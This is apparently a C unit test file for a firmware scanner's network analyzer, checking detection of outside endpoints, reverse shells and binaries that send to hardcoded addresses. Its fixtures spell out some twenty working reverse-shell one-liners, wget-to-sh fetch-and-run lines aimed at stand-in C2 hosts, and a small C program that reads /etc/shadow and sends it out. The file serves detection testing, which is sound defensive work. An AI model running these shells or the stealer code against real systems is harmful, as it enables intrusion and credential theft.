/*
 * The network analyzer: endpoints in scripts, configuration and binaries
 * (FV-NET-001 and the endpoint records), reverse shells in every common form
 * (FV-NET-002), and binaries that can send to a hardcoded outside address
 * (FV-NET-003), built at test time by cc and a cross compiler.  The
 * negatives are the ones firmware is full of: private and documentation
 * addresses, version strings, library names, licence URLs, XML namespaces,
 * netmasks, C++ scopes, commented-out commands and bind shells.
 */
#include "testlib.h"

#include "analyze/run.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

extern const struct fv_analyzer fv_analyzer_network;

/* ---- helpers ------------------------------------------------------------------- */

static void scan(const char *root, struct fv_results *r)
{
	fv_test_analyze(root, &fv_analyzer_network, r);
}

static int ends_with(const char *s, const char *suffix)
{
	size_t a = strlen(s), b = strlen(suffix);
	return a >= b && strcmp(s + a - b, suffix) == 0;
}

static size_t count_at(const struct fv_results *r, const char *rule, const char *suffix)
{
	size_t n = 0;
	for (size_t i = 0; i < r->findings.n; i++)
		n += !strcmp(r->findings.v[i].rule, rule) && ends_with(r->findings.v[i].path, suffix);
	return n;
}

/* The finding of rule at path whose title names what (an endpoint), or NULL. */
static const struct fv_finding *naming(const struct fv_results *r, const char *rule, const char *suffix,
				       const char *what)
{
	for (size_t i = 0; i < r->findings.n; i++) {
		const struct fv_finding *f = &r->findings.v[i];
		if (!strcmp(f->rule, rule) && ends_with(f->path, suffix) && (!what || strstr(f->title, what)))
			return f;
	}
	return NULL;
}

static const struct fv_finding *must_naming(const struct fv_results *r, const char *rule,
					      const char *suffix, const char *what)
{
	const struct fv_finding *f = naming(r, rule, suffix, what);
	if (!f) {
		fv_test_dump(r);
		fail_msg("no %s at %s naming %s", rule, suffix, what ? what : "anything");
	}
	return f;
}

static const struct fv_endpoint *endpoint(const struct fv_results *r, const char *suffix, const char *value)
{
	for (size_t i = 0; i < r->nendpoints; i++)
		if (ends_with(r->endpoints[i].path, suffix) && !strcmp(r->endpoints[i].value, value))
			return &r->endpoints[i];
	return NULL;
}

/* No record and no finding anywhere mentions s. */
static void assert_absent(const struct fv_results *r, const char *s)
{
	for (size_t i = 0; i < r->nendpoints; i++)
		if (strstr(r->endpoints[i].value, s)) {
			fv_test_dump(r);
			fail_msg("%s was recorded as an endpoint", s);
		}
	for (size_t i = 0; i < r->findings.n; i++)
		if (strstr(r->findings.v[i].title, s)) {
			fv_test_dump(r);
			fail_msg("%s was reported", s);
		}
}

static uint64_t offset_of(const char *text, const char *needle)
{
	const char *p = strstr(text, needle);
	assert_non_null(p);
	return (uint64_t)(p - text);
}

/* ---- endpoints in scripts and configuration ------------------------------------------ */

static const char *const updater =
	"#!/bin/sh\n"
	"# Copyright (C) 2012 Example Networks, 8.8.4.4 reserved\n"
	"LAN=192.168.1.1\n"
	"GW=10.0.0.138\n"
	"echo \"Linux version 2.6.36.4 (gcc version 4.6.3)\"\n"
	"VERSION=v1.2.3.4\n"
	"LIB=/lib/libc.so.6; . /etc/functions.sh; cat /etc/foo.conf /www/index.html\n"
	"ifconfig br0 192.168.1.1 netmask 255.255.255.0 broadcast 192.168.1.255\n"
	"wget http://203.0.113.7/fw.bin -O /tmp/fw.bin\n"
	"ping -c1 198.51.100.3; ping -c1 2001:db8::53\n"
	"wget http://updates.evil-c2.net/fw.bin -O /tmp/x\n"
	"NTP=pool.ntp.org\n"
	"echo report to 45.33.32.156\n"
	"curl -s http://updates.evil-c2.net/check?id=1\n"
	"echo xmlns=\"http://www.w3.org/2001/XMLSchema\" http://schemas.xmlsoap.org/soap/envelope/\n"
	"# see <http://www.gnu.org/licenses/> and http://purl.org/dc/elements/1.1/\n"
	"echo 127.0.0.1 localhost 0.0.0.0 169.254.1.1 224.0.0.251 100.64.1.1\n";

static void script_endpoints(void **state)
{
	(void)state;
	char root[64];
	fv_test_tmpdir(root, sizeof root, "net-script");
	fv_test_put(root, "etc/init.d/S99update", updater);
	struct fv_results r;
	scan(root, &r);

	/* Three outside endpoints, one finding each although the evil host appears twice. */
	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/init.d/S99update"), 3);
	const struct fv_finding *f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "updates.evil-c2.net");
	assert_int_equal(f->severity, FV_SEV_LOW); /* used by wget */
	assert_int_equal(f->confidence, FV_CONF_HIGH);
	assert_int_equal(f->offset, offset_of(updater, "http://updates.evil-c2.net/fw.bin"));
	assert_string_equal(f->evidence, "wget http://updates.evil-c2.net/fw.bin -O /tmp/x");
	assert_string_equal(f->category, "exfiltration");
	f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_INFO);
	assert_int_equal(f->offset, offset_of(updater, "45.33.32.156"));
	f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "pool.ntp.org");
	assert_int_equal(f->severity, FV_SEV_INFO);
	assert_int_equal(f->confidence, FV_CONF_MEDIUM);

	/* Records: every endpoint with its class, outside or not. */
	const struct fv_endpoint *e = endpoint(&r, "/etc/init.d/S99update", "45.33.32.156");
	assert_non_null(e);
	assert_string_equal(e->kind, "ipv4");
	assert_int_equal(e->outside, 1);
	assert_int_equal(e->offset, offset_of(updater, "45.33.32.156"));
	e = endpoint(&r, "/etc/init.d/S99update", "http://updates.evil-c2.net/fw.bin");
	assert_non_null(e);
	assert_string_equal(e->kind, "url");
	assert_int_equal(e->outside, 1);
	e = endpoint(&r, "/etc/init.d/S99update", "pool.ntp.org");
	assert_non_null(e);
	assert_string_equal(e->kind, "host");
	static const char *const inside[] = { "192.168.1.1", "10.0.0.138", "192.168.1.255", "127.0.0.1",
					      "0.0.0.0", "169.254.1.1", "224.0.0.251", "100.64.1.1",
					      "198.51.100.3", "2001:db8::53", "http://203.0.113.7/fw.bin" };
	for (size_t i = 0; i < sizeof inside / sizeof *inside; i++) {
		e = endpoint(&r, "/etc/init.d/S99update", inside[i]);
		if (!e) {
			fv_test_dump(&r);
			fail_msg("%s was not recorded", inside[i]);
		}
		assert_int_equal(e->outside, 0);
	}
	/* One record per endpoint per file. */
	size_t lan = 0;
	for (size_t i = 0; i < r.nendpoints; i++)
		lan += !strcmp(r.endpoints[i].value, "192.168.1.1");
	assert_int_equal(lan, 1);
	/* Not endpoints at all: a copyright line, versions, file names, a netmask, documentation URLs. */
	static const char *const never[] = { "8.8.4.4", "2.6.36.4", "1.2.3.4", "4.6.3", "libc.so",
					     "functions.sh", "foo.conf", "index.html", "255.255.255.0",
					     "w3.org", "xmlsoap", "gnu.org", "purl.org" };
	for (size_t i = 0; i < sizeof never / sizeof *never; i++)
		assert_absent(&r, never[i]);
	fv_results_free(&r);
	fv_test_rmtree(root);
}

static const char *const config =
	"config interface 'wan'\n"
	"\toption dns '2a03:2880:f10c:83:face:b00c::25de'\n"
	"\toption ip6gw 'fe80::1'\n"
	"\toption doc '2001:db8::1'\n"
	"\toption mac '00:11:22:33:44:55'\n"
	"\toption time '12:30:45'\n"
	"\toption backup 'ftp://admin:s3cretPW@files.example-cdn.com/up/'\n"
	"\toption tmpl 'http://%s/cgi-bin/luci' 'http://$HOST/x' 'http://localhost:8080/'\n"
	"\toption contact 'support@vendor-mail.com'\n"
	"\toption js 'user.id window.top file.name this.store Content.Net'\n"
	"\toption shady 'www.shady-site.top' 'cdn.shady.top:8443' 'c2.badhost.ru' 'C2.UPPER.RU'\n"
	"\toption cpp 'std::string Foo::Bar ::'\n"
	"\toption v4mapped '::ffff:45.33.32.156'\n";

static void config_endpoints(void **state)
{
	(void)state;
	char root[64];
	fv_test_tmpdir(root, sizeof root, "net-config");
	fv_test_put(root, "etc/config/network", config);
	struct fv_results r;
	scan(root, &r);
	const char *p = "/etc/config/network";
	const struct fv_endpoint *e = endpoint(&r, p, "2a03:2880:f10c:83:face:b00c::25de");
	assert_non_null(e);
	assert_string_equal(e->kind, "ipv6");
	assert_int_equal(e->outside, 1);
	must_naming(&r, "FV-NET-001", p, "2a03:2880:f10c:83:face:b00c::25de");
	assert_non_null(e = endpoint(&r, p, "fe80::1"));
	assert_int_equal(e->outside, 0);
	assert_non_null(e = endpoint(&r, p, "2001:db8::1"));
	assert_int_equal(e->outside, 0);
	assert_non_null(e = endpoint(&r, p, "::ffff:45.33.32.156"));
	assert_int_equal(e->outside, 1);
	/* The password never reaches the report. */
	assert_non_null(e = endpoint(&r, p, "ftp://admin:***@files.example-cdn.com/up/"));
	assert_int_equal(e->outside, 1);
	const struct fv_finding *f = must_naming(&r, "FV-NET-001", p, "files.example-cdn.com");
	assert_null(strstr(f->evidence, "s3cretPW"));
	assert_non_null(strstr(f->evidence, "ftp://admin:***@files.example-cdn.com/up/"));
	for (size_t i = 0; i < r.nendpoints; i++)
		assert_null(strstr(r.endpoints[i].value, "s3cretPW"));
	/* A name without a public suffix is inside. */
	assert_non_null(e = endpoint(&r, p, "http://localhost:8080/"));
	assert_int_equal(e->outside, 0);
	/* A weak TLD needs www. or a port; strong ones stand alone; upper case is an identifier. */
	must_naming(&r, "FV-NET-001", p, "www.shady-site.top");
	must_naming(&r, "FV-NET-001", p, "cdn.shady.top");
	must_naming(&r, "FV-NET-001", p, "c2.badhost.ru");
	static const char *const never[] = { "00:11:22", "12:30:45", "%s", "$HOST", "vendor-mail.com",
					     "user.id", "window.top", "file.name", "this.store", "content.net",
					     "upper.ru", "std::", "Foo::Bar" };
	for (size_t i = 0; i < sizeof never / sizeof *never; i++)
		assert_absent(&r, never[i]);
	/* 2a03..., ::ffff:45.33.32.156, ftp host, three shady names. */
	assert_int_equal(count_at(&r, "FV-NET-001", p), 6);
	fv_results_free(&r);
	fv_test_rmtree(root);
}

/* The same content at two paths: reported at both. */
static void duplicate_content(void **state)
{
	(void)state;
	char root[64];
	fv_test_tmpdir(root, sizeof root, "net-dup");
	const char *s = "#!/bin/sh\nwget -q -O- http://45.33.32.156:8080/cmd | sh\n";
	fv_test_put(root, "usr/sbin/a.sh", s);
	fv_test_put(root, "opt/b.sh", s);
	struct fv_results r;
	scan(root, &r);
	assert_int_equal(count_at(&r, "FV-NET-001", "/usr/sbin/a.sh"), 1);
	assert_int_equal(count_at(&r, "FV-NET-001", "/opt/b.sh"), 1);
	assert_non_null(endpoint(&r, "/usr/sbin/a.sh", "http://45.33.32.156:8080/cmd"));
	assert_non_null(endpoint(&r, "/opt/b.sh", "http://45.33.32.156:8080/cmd"));
	fv_results_free(&r);
	fv_test_rmtree(root);
}

/* ---- reverse shells -------------------------------------------------------------- */

static const char *const shells[] = {
	"nc 45.33.32.156 4444 -e /bin/sh",
	"nc -e /bin/sh 45.33.32.156 4444",
	"busybox nc 45.33.32.156 4444 -e /bin/ash &",
	"ncat --sh-exec 'sh -i' evil.attacker.ru 443",
	"nc -nve/bin/bash 45.33.32.156 4444",
	"bash -i >& /dev/tcp/45.33.32.156/4444 0>&1",
	"sh -i >& /dev/udp/45.33.32.156/53 0>&1",
	"0<&196;exec 196<>/dev/tcp/45.33.32.156/4444; sh <&196 >&196 2>&196",
	"exec 5<>/dev/tcp/45.33.32.156/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.33.32.156 4444 >/tmp/f",
	"mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc 45.33.32.156 4444 1>/tmp/backpipe",
	"telnet 45.33.32.156 4444 | /bin/sh | telnet 45.33.32.156 4445",
	"/bin/sh -i 2>&1 | nc 45.33.32.156 4444",
	"openssl s_client -quiet -connect 45.33.32.156:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 45.33.32.156:444",
	"socat tcp-connect:45.33.32.156:4444 exec:sh,pty,stderr,setsid,sigint,sane",
	"socat TCP4:45.33.32.156:4444 EXEC:'bash -li',pty,stderr",
	"python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
	"s.connect((\"45.33.32.156\",4444));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"])'",
	"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
	"if(connect(S,sockaddr_in(4444,inet_aton(\"45.33.32.156\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
	"sh -c \"nc -e /bin/sh 45.33.32.156 4444\"",
	"if [ -x /usr/bin/nc ]; then nc 45.33.32.156 4444 \\\n    -e /bin/sh; fi",
};

static const char *const not_shells[] = {
	"# nc -e /bin/sh 45.33.32.156 4444",
	"   #bash -i >& /dev/tcp/45.33.32.156/4444 0>&1",
	"echo started # nc 45.33.32.156 4444 -e /bin/sh",
	"nc -l -p 4444 -e /bin/sh",
	"nc -lvp 4444 -e /bin/sh",
	"socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
	"echo data | nc 45.33.32.156 25",
	"exec 3<>/dev/tcp/45.33.32.156/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3",
	"echo 'nc -e /bin/sh 45.33.32.156 4444' > /tmp/notes",
	"cat /tmp/script | sh",
	"usage: nc [-iN] [-wN] [-l] [-p PORT] [-f FILE|IPADDR PORT] [-e PROG]",
	"sh -c 'nc 45.33.32.156 25 < /tmp/mail'",
};

static void reverse_shells(void **state)
{
	(void)state;
	char root[64], path[64];
	fv_test_tmpdir(root, sizeof root, "net-rs");
	size_t nyes = sizeof shells / sizeof *shells, nno = sizeof not_shells / sizeof *not_shells;
	char text[1024];
	for (size_t i = 0; i < nyes; i++) {
		snprintf(path, sizeof path, "bin/rs%02zu.sh", i);
		snprintf(text, sizeof text, "#!/bin/sh\n# reverse shell %zu\nsleep 5\n%s\nexit 0\n", i, shells[i]);
		fv_test_put(root, path, text);
	}
	for (size_t i = 0; i < nno; i++) {
		snprintf(path, sizeof path, "bin/ok%02zu.sh", i);
		snprintf(text, sizeof text, "#!/bin/sh\n%s\n", not_shells[i]);
		fv_test_put(root, path, text);
	}
	/* Init scripts often have no #! line: text files are read too. */
	fv_test_put(root, "etc/rc.local", "touch /var/run/up\nnc 45.33.32.156 4444 -e /bin/sh &\n");
	struct fv_results r;
	scan(root, &r);
	for (size_t i = 0; i < nyes; i++) {
		snprintf(path, sizeof path, "/bin/rs%02zu.sh", i);
		if (count_at(&r, "FV-NET-002", path) != 1) {
			fv_test_dump(&r);
			fail_msg("%s: %zu reverse shell findings for: %s", path, count_at(&r, "FV-NET-002", path),
				 shells[i]);
		}
		const struct fv_finding *f = must_naming(&r, "FV-NET-002", path, NULL);
		assert_int_equal(f->severity, FV_SEV_CRITICAL);
		assert_string_equal(f->category, "backdoor");
		/* The evidence is the line (continuation lines joined), at the line's offset. */
		snprintf(text, sizeof text, "#!/bin/sh\n# reverse shell %zu\nsleep 5\n", i);
		assert_int_equal(f->offset, strlen(text));
		assert_true(strncmp(f->evidence, shells[i], 20) == 0);
	}
	for (size_t i = 0; i < nno; i++) {
		snprintf(path, sizeof path, "/bin/ok%02zu.sh", i);
		if (count_at(&r, "FV-NET-002", path) != 0) {
			fv_test_dump(&r);
			fail_msg("%s: a reverse shell in: %s", path, not_shells[i]);
		}
	}
	const struct fv_finding *f = must_naming(&r, "FV-NET-002", "/etc/rc.local", NULL);
	assert_string_equal(f->evidence, "nc 45.33.32.156 4444 -e /bin/sh &");
	assert_int_equal(f->offset, strlen("touch /var/run/up\n"));
	fv_results_free(&r);
	fv_test_rmtree(root);
}

/* ---- binaries ---------------------------------------------------------------------- */

static const char *const beacon_c =
	"#include <stdio.h>\n"
	"#include <string.h>\n"
	"#include <sys/socket.h>\n"
	"#include <netinet/in.h>\n"
	"#include <arpa/inet.h>\n"
	"#include <unistd.h>\n"
	"static const char c2[] = \"45.33.32.156\";\n"
	"static const char lan[] = \"192.168.1.1\";\n"
	"static const char ver[] = \"beacon version 2.6.36.4\";\n"
	"int main(int argc, char **argv) {\n"
	"  char buf[512] = \"\";\n"
	"#ifdef READ_SHADOW\n"
	"  FILE *f = fopen(\"/etc/shadow\", \"r\");\n"
	"  if (f) { fread(buf, 1, sizeof buf - 1, f); fclose(f); }\n"
	"#endif\n"
	"  int s = socket(AF_INET, SOCK_STREAM, 0);\n"
	"  struct sockaddr_in a;\n"
	"  memset(&a, 0, sizeof a);\n"
	"  a.sin_family = AF_INET; a.sin_port = htons(4444);\n"
	"  inet_pton(AF_INET, argc > 5 ? lan : c2, &a.sin_addr);\n"
	"  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) send(s, buf, strlen(buf), 0);\n"
	"  puts(argc > 9 ? ver : argv[0]);\n"
	"  return close(s);\n"
	"}\n";

static const char *const quiet_c =
	"#include <stdio.h>\n"
	"int main(void) {\n"
	"  puts(\"firmware updates: http://updates.evil-c2.net/latest\");\n"
	"  puts(\"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.33.32.156 4444 >/tmp/f\");\n"
	"  puts(\"usage: nc [-l] [-p PORT] [-e PROG] HOST PORT\");\n"
	"  puts(\"Copyright (c) 2010 Vendor, see http://www.vendor-docs.com/license\");\n"
	"  return 0;\n"
	"}\n";

/* A network client that only quotes its home page and bug tracker in its banner. */
static const char *const banner_c =
	"#include <stdio.h>\n"
	"#include <sys/socket.h>\n"
	"#include <netinet/in.h>\n"
	"int main(int argc, char **argv) {\n"
	"  printf(\"Acme SSH server v%s https://www.acme-ssh.net/server.html\\n\", argv[0]);\n"
	"  puts(\"Please report bugs as described in <https://bugs.acme-ssh.net/>.\");\n"
	"  puts(\"/etc/shadow\");\n"
	"  struct sockaddr_in a = { 0 };\n"
	"  return connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&a, sizeof a) + argc;\n"
	"}\n";

static void binaries(void **state)
{
	(void)state;
	char root[64], src[64];
	fv_test_tmpdir(root, sizeof root, "net-elf");
	fv_test_tmpdir(src, sizeof src, "net-elf-src");
	fv_test_write_file(src, "beacon.c", beacon_c, strlen(beacon_c));
	fv_test_write_file(src, "quiet.c", quiet_c, strlen(quiet_c));
	fv_test_write_file(src, "banner.c", banner_c, strlen(banner_c));
	if (!fv_test_have("mipsel-linux-gnu-gcc"))
		fail_msg("mipsel-linux-gnu-gcc is missing: run scripts/deps.sh");
	fv_test_sh(src, "mkdir -p '%s/usr/bin' '%s/usr/sbin' && "
			"cc -O1 -o '%s/usr/bin/beacon' beacon.c && "
			"cc -O1 -DREAD_SHADOW -o '%s/usr/bin/stealer' beacon.c && "
			"mipsel-linux-gnu-gcc -O1 -DREAD_SHADOW -o '%s/usr/sbin/stealer.mips' beacon.c && "
			"cc -O1 -static -o '%s/usr/bin/beacon.static' beacon.c && "
			"cc -O1 -static -o '%s/usr/bin/beacon.stripped' beacon.c && strip '%s/usr/bin/beacon.stripped' && "
			"cc -O1 -o '%s/usr/bin/quiet' quiet.c && cc -O1 -o '%s/usr/sbin/banner' banner.c",
		   root, root, root, root, root, root, root, root, root, root);
	struct fv_results r;
	scan(root, &r);

	size_t n;
	uint8_t *bin = fv_test_load(root, "usr/bin/beacon", &n);
	const uint8_t *c2 = memmem(bin, n, "45.33.32.156", 12);
	assert_non_null(c2);
	uint64_t c2off = (uint64_t)(c2 - bin);
	free(bin);

	/* A dynamic binary importing connect: medium, sure of its imports. */
	const struct fv_finding *f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_MEDIUM);
	assert_int_equal(f->confidence, FV_CONF_HIGH);
	assert_string_equal(f->evidence, "45.33.32.156");
	assert_int_equal(f->offset, c2off);
	assert_non_null(strstr(f->title, "connect()"));
	assert_int_equal(count_at(&r, "FV-NET-003", "/usr/bin/beacon"), 1);
	f = must_naming(&r, "FV-NET-001", "/usr/bin/beacon", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_LOW);
	assert_int_equal(f->offset, c2off);
	assert_int_equal(count_at(&r, "FV-NET-001", "/usr/bin/beacon"), 1);
	assert_non_null(endpoint(&r, "/usr/bin/beacon", "192.168.1.1"));
	assert_null(naming(&r, "FV-NET-001", "/usr/bin/beacon", "2.6.36.4"));

	/* Reading /etc/shadow as well: high, native and MIPS alike. */
	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/stealer", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_HIGH);
	assert_non_null(strstr(f->title, "/etc/shadow"));
	f = fv_test_must(&r, "FV-NET-003", "/usr/sbin/stealer.mips", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_HIGH);
	assert_int_equal(f->confidence, FV_CONF_HIGH);

	/* Static: the wrapper's symbol shows connect (medium); stripped, nothing can be seen (low). */
	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon.static", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_MEDIUM);
	assert_int_equal(f->confidence, FV_CONF_MEDIUM);
	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon.stripped", "45.33.32.156");
	assert_int_equal(f->severity, FV_SEV_MEDIUM);
	assert_int_equal(f->confidence, FV_CONF_LOW);

	/* No network imports: the URL is information, not a capability; the help text is not a shell. */
	f = must_naming(&r, "FV-NET-001", "/usr/bin/quiet", "updates.evil-c2.net");
	assert_int_equal(f->severity, FV_SEV_INFO);
	assert_null(naming(&r, "FV-NET-003", "/usr/bin/quiet", NULL));
	assert_null(naming(&r, "FV-NET-001", "/usr/bin/quiet", "vendor-docs.com"));
	assert_int_equal(count_at(&r, "FV-NET-002", "/usr/bin/quiet"), 1);
	f = must_naming(&r, "FV-NET-002", "/usr/bin/quiet", NULL);
	assert_non_null(strstr(f->evidence, "mkfifo /tmp/f"));
	/* Endpoints quoted in sentences (banner, bug reports) are not what a client sends to. */
	assert_int_equal(count_at(&r, "FV-NET-003", "/usr/sbin/banner"), 0);
	f = must_naming(&r, "FV-NET-001", "/usr/sbin/banner", "www.acme-ssh.net");
	assert_int_equal(f->severity, FV_SEV_INFO);
	f = must_naming(&r, "FV-NET-001", "/usr/sbin/banner", "bugs.acme-ssh.net");
	assert_int_equal(f->severity, FV_SEV_INFO);
	fv_results_free(&r);
	fv_test_rmtree(root);
	fv_test_rmtree(src);
}

/* Strings in binaries count only in printable runs of four or more. */
static void printable_runs(void **state)
{
	(void)state;
	char root[64];
	fv_test_tmpdir(root, sizeof root, "net-runs");
	static const uint8_t blob[] = "\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"
				      "\x01\x02" "45.33.32.156\x01" "ab.ru\x02" "7.7.7.7\x03" "9.9.9\x00" "9\x01"
				      "c2.bad.ru\x00" "1.2.0.4\x00" "5.2.3.10\x00" "1.1.1.1\x00" "9.9.9.10\x00"
				      "value.ir\x00" ".data.rel.ro\x00" "4.lu\x00" "2002::/16\x00" "2.5.4.3\x00"
				      "\xff" "c2.evil-c2.net\xfe" "update.io";
	fv_test_write_file(root, "usr/bin/blob", blob, sizeof blob - 1);
	struct fv_results r;
	scan(root, &r);
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "45.33.32.156");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "7.7.7.7");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "c2.bad.ru");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "1.1.1.1");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "9.9.9.10");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "c2.evil-c2.net");
	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "update.io");
	assert_absent(&r, "9.9.9.9"); /* a string ends at a byte that is not printable */
	/*
	 * What binaries are full of: two-label country names that are field
	 * names, section names, versions, section numbers, OIDs, prefixes and
	 * fragments of machine code.
	 */
	static const char *const never[] = { "ab.ru", "1.2.0.4", "5.2.3.10", "value.ir", "rel.ro",
					     "4.lu", "2002:", "2.5.4.3" };
	for (size_t i = 0; i < sizeof never / sizeof *never; i++)
		assert_absent(&r, never[i]);
	/* A junk "ELF" is not parsed as one: no capability claimed. */
	assert_int_equal(count_at(&r, "FV-NET-003", "/usr/bin/blob"), 0);
	fv_results_free(&r);
	fv_test_rmtree(root);
}

/* --rules DIR/network/: more TLDs and more to ignore. */
static void user_rules(void **state)
{
	(void)state;
	char root[64], rules[64];
	fv_test_tmpdir(root, sizeof root, "net-user");
	fv_test_tmpdir(rules, sizeof rules, "net-user-rules");
	fv_test_put(root, "etc/app.conf", "server=collect.intra.corp\nmirror=dl.vendor-cdn.com\n");
	struct fv_results r;
	scan(root, &r);
	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/app.conf"), 1);
	must_naming(&r, "FV-NET-001", "/etc/app.conf", "dl.vendor-cdn.com");
	fv_results_free(&r);
	fv_test_put(rules, "network/tlds.txt", "# ours\ncorp\n");
	fv_test_put(rules, "network/ignore.txt", "host vendor-cdn.com\n");
	fv_test_analyze_rules(root, &fv_analyzer_network, rules, &r);
	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/app.conf"), 1);
	must_naming(&r, "FV-NET-001", "/etc/app.conf", "collect.intra.corp");
	fv_results_free(&r);
	fv_test_rmtree(root);
	fv_test_rmtree(rules);
}

/* Noise typed as ELF, a huge line, more endpoints than are kept, broken syntax: no crash, bounded output. */
static void hostile(void **state)
{
	(void)state;
	char root[64];
	fv_test_tmpdir(root, sizeof root, "net-hostile");
	size_t n = 4u << 20;
	uint8_t *p = malloc(n);
	fv_test_fill_random(p, n, 7);
	memcpy(p, "\x7f" "ELF\x01\x02\x01", 7); /* typed ELF, so that it is read as a binary */
	fv_test_write_file(root, "bin/noise", p, n);
	/* One line of 100,000 public addresses and URLs with no newline. */
	size_t k = 0;
	for (unsigned i = 0; k + 64 < n; i++)
		k += (size_t)snprintf((char *)p + k, n - k, "%u.%u.%u.%u http://h%u.example-c2.net/:// ",
				      45 + (i >> 16) % 100, (i >> 8) & 255, i & 255, 1 + i % 200, i);
	fv_test_write_file(root, "etc/huge.conf", p, k);
	/* Runs that look like IPv6 or names but never are, 1 MiB each: one pass, not one per byte. */
	for (size_t i = 0; i < (1u << 20); i++)
		p[i] = "1:"[i & 1];
	for (size_t i = 1u << 20; i < (2u << 20); i++)
		p[i] = "a."[i & 1];
	for (size_t i = 2u << 20; i < (3u << 20); i++)
		p[i] = "http://"[i % 7];
	fv_test_write_file(root, "etc/runs.conf", p, 3u << 20);
	/* Shell syntax that never closes. */
	static const char junk[] = "nc -e \"/bin/sh 45.33.32.156 4444 ' | | && ; `$( socat exec:'sh\n"
				   "bash -i >& /dev/tcp/\\\n";
	fv_test_write_file(root, "etc/junk.sh", junk, sizeof junk - 1);
	struct fv_results r;
	scan(root, &r);
	size_t huge = count_at(&r, "FV-NET-001", "/etc/huge.conf");
	assert_true(huge > 1000 && huge <= 4096);
	free(p);
	fv_results_free(&r);
	fv_test_rmtree(root);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(script_endpoints), cmocka_unit_test(config_endpoints),
		cmocka_unit_test(duplicate_content), cmocka_unit_test(reverse_shells),
		cmocka_unit_test(binaries),         cmocka_unit_test(printable_runs),
		cmocka_unit_test(user_rules),       cmocka_unit_test(hostile),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
